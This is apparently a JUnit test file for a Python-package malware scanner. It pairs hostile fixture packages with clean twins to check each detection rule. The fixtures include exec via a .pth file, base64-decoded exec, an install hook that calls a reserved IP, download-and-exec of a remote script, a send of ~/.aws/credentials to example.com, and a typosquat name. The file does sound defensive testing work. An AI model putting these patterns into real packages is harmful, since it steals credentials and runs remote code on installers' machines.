package dev.sluice.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.archive.ArchiveLimits;
import dev.sluice.pep.DistributionFilename;
import dev.sluice.pep.ProjectName;
import dev.sluice.testing.Archives;
import dev.sluice.testing.Archives.Content;
import dev.sluice.testing.Wheels;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A small crafted distribution for every rule, inspected whole as an upload or a download is: the hostile one is
 * caught by that rule with its evidence (file and line), at the severity the rule gives; its clean twin, differing
 * only where the pattern is, draws no finding of that rule that weighs anything. Payloads are harmless (they would print, or reach
 * reserved addresses and example domains) and nothing is ever run.
 */
class RuleFixturesTest {
    private static final Inspector INSPECTOR = new Inspector(ArchiveLimits.DEFAULT);
    private static final byte[] ELF = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0};

    @TempDir
    static Path dir;

    /** How to write one distribution: its filename and files (sdists get their top folder added). */
    record Fixture(String filename, Map<String, Content> files) {}

    static Stream<Arguments> rules() {
        return Stream.of(
                Arguments.of("pth-import", Finding.Severity.MALICIOUS, "zz_demo.pth", 1,
                        wheel("demo", Map.of("zz_demo.pth", "import os; exec(os.environ.get('NOTHING', ''))\n")),
                        wheel("demo", Map.of("zz_demo.pth", "./lib\n"))),
                Arguments.of("encoded-exec", Finding.Severity.MALICIOUS, "demo/boot.py", 2,
                        wheel("demo", Map.of("demo/boot.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")),
                        wheel("demo", Map.of("demo/boot.py", "import base64\nvalue = base64.b64decode('cHJpbnQoMSk=')\n"))),
                Arguments.of("shady-endpoint", Finding.Severity.SUSPICIOUS, "demo/send.py", 1,
                        wheel("demo", Map.of("demo/send.py", "HOOK = 'https://discord.com/api/webhooks/0/example'\n")),
                        wheel("demo", Map.of("demo/send.py", "HOOK = 'https://api.example.com/v1/hooks'\n"))),
                Arguments.of("native-in-sdist", Finding.Severity.SUSPICIOUS, "demo-1.0/bin/helper", 0,
                        sdist("demo", Map.of("bin/helper", Content.of(ELF))),
                        sdist("demo", Map.of("bin/helper", Content.of("#!/bin/sh\necho helper\n")))),
                Arguments.of("install-hook", Finding.Severity.MALICIOUS, "demo-1.0/setup.py", 7,
                        sdist("demo", Map.of("setup.py", Content.of(setup("urllib.request.urlopen('http://192.0.2.1/ping')")))),
                        sdist("demo", Map.of("setup.py", Content.of(setup("print('installed')"))))),
                Arguments.of("download-exec", Finding.Severity.MALICIOUS, "demo/update.py", 4,
                        wheel("demo", Map.of("demo/update.py", "import urllib.request\n\ndef update():\n"
                                + "    exec(urllib.request.urlopen('http://192.0.2.2/next.py').read())\n")),
                        wheel("demo", Map.of("demo/update.py", "import urllib.request, json\n\ndef update():\n"
                                + "    return json.load(urllib.request.urlopen('https://example.com/version.json'))\n"))),
                Arguments.of("exfiltration", Finding.Severity.MALICIOUS, "demo/telemetry.py", 5,
                        wheel("demo", Map.of("demo/telemetry.py", "import os, requests\n\ndef send():\n"
                                + "    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
                                + "    requests.post('https://example.com/t', data=key)\n")),
                        wheel("demo", Map.of("demo/telemetry.py", "import os, requests\n\ndef send():\n"
                                + "    region = os.environ.get('AWS_REGION')\n"
                                + "    requests.post('https://example.com/t', data=region)\n"))),
                Arguments.of("typosquat", Finding.Severity.SUSPICIOUS, "reqeusts-1.0-py3-none-any.whl", 0,
                        wheel("reqeusts", Map.of()), wheel("requests-helpers-demo", Map.of())));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rules")
    void eachRuleCatchesItsPatternAndPassesTheCleanTwin(String rule, Finding.Severity severity, String file, int line,
            Fixture hostile, Fixture twin) throws Exception {
        List<Finding> caught = inspect(hostile).findings().stream().filter(f -> f.rule().equals(rule)).toList();
        assertThat(caught).as("the %s fixture", rule).isNotEmpty();
        assertThat(caught.get(0).severity()).isEqualTo(severity);
        assertThat(caught.get(0).file()).isEqualTo(file);
        assertThat(caught.get(0).line()).isEqualTo(line);
        assertThat(caught.get(0).excerpt()).isNotBlank();
        assertThat(inspect(twin).findings()).as("the clean twin of %s (a note, such as an install command that only installs,"
                + " weighs nothing)", rule).noneMatch(f -> f.rule().equals(rule) && f.severity() != Finding.Severity.NOTE);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rules")
    void theVerdictFollowsTheWorstFinding(String rule, Finding.Severity severity, String file, int line, Fixture hostile,
            Fixture twin) throws Exception {
        assertThat(inspect(hostile).verdict()).isEqualTo(severity == Finding.Severity.MALICIOUS ? Verdict.MALICIOUS : Verdict.SUSPICIOUS);
        assertThat(inspect(twin).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @org.junit.jupiter.api.Test
    void aPlaceholderReleaseIsANoteAloneAndMaliciousWithASuspiciousFinding() throws Exception {
        Path folder = Files.createTempDirectory(dir, "placeholder");
        Inspector.Report squat = inspectFile(Wheels.wheel(folder, "reqeusts", "0.0.0"));
        assertThat(squat.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(squat.reason()).startsWith("malicious placeholder-release: reqeusts-0.0.0-py3-none-any.whl: the release is"
                + " numbered 0.0.0, and typosquat found: 'reqeusts'");
        assertThat(inspectFile(Wheels.wheel(folder, "reqeusts", "2.0")).verdict()).as("a real version").isEqualTo(Verdict.SUSPICIOUS);
        Inspector.Report fresh = inspectFile(Wheels.wheel(folder, "tidy-start", "0.0.0"));
        assertThat(fresh.verdict()).as("a new project's first number, nothing else").isEqualTo(Verdict.CLEAN);
        assertThat(fresh.findings()).singleElement().satisfies(f -> assertThat(f.rule()).isEqualTo("placeholder-release"));
        Path sloppy = folder.resolve("sloppy-1.0-py3-none-any.whl"); // no summary, an empty RECORD: sloppy, not hostile
        try (Archives.ZipWriter zip = new Archives.ZipWriter(sloppy)) {
            zip.add("sloppy/__init__.py", Content.of("VALUE = 1\n"));
            zip.add("sloppy-1.0.dist-info/METADATA", Content.of("Metadata-Version: 2.1\nName: sloppy\nVersion: 1.0\n"));
            zip.add("sloppy-1.0.dist-info/RECORD", Content.of(""));
        }
        assertThat(inspectFile(sloppy).verdict()).isEqualTo(Verdict.SUSPICIOUS);
    }

    private static Inspector.Report inspectFile(Path distribution) {
        DistributionFilename filename = DistributionFilename.parse(distribution.getFileName().toString());
        return INSPECTOR.inspect(distribution, filename, ProjectName.of(filename.normalizedName()), Set.of());
    }

    private static Fixture wheel(String name, Map<String, String> files) {
        Map<String, Content> content = new java.util.TreeMap<>();
        files.forEach((k, v) -> content.put(k, Content.of(v)));
        return new Fixture(name.replace('-', '_') + "-1.0-py3-none-any.whl", content);
    }

    private static Fixture sdist(String name, Map<String, Content> files) {
        return new Fixture(name + "-1.0.tar.gz", files);
    }

    private static String setup(String inInstall) {
        return """
                from setuptools import setup
                from setuptools.command.install import install
                import urllib.request

                class PostInstall(install):
                    def run(self):
                        %s
                        install.run(self)

                setup(name='demo', version='1.0', cmdclass={'install': PostInstall})
                """.formatted(inInstall);
    }

    private static Inspector.Report inspect(Fixture fixture) throws Exception {
        Path folder = Files.createTempDirectory(dir, "fixture");
        Path file;
        if (fixture.filename().endsWith(".whl")) {
            String stem = fixture.filename().substring(0, fixture.filename().indexOf('-'));
            Map<String, String> texts = new java.util.TreeMap<>();
            fixture.files().forEach((k, v) -> texts.put(k, new String(v.bytes(), java.nio.charset.StandardCharsets.UTF_8)));
            file = Wheels.wheelWith(folder, stem, "1.0", texts);
        } else {
            file = folder.resolve(fixture.filename());
            String top = fixture.filename().substring(0, fixture.filename().length() - ".tar.gz".length()) + "/";
            try (Archives.TarGzWriter tar = new Archives.TarGzWriter(file)) {
                tar.add(top + "PKG-INFO", Content.of(Archives.metadata("demo", "1.0")));
                for (var f : fixture.files().entrySet()) {
                    tar.add(top + f.getKey(), f.getValue());
                }
            }
        }
        return inspectFile(file);
    }
}
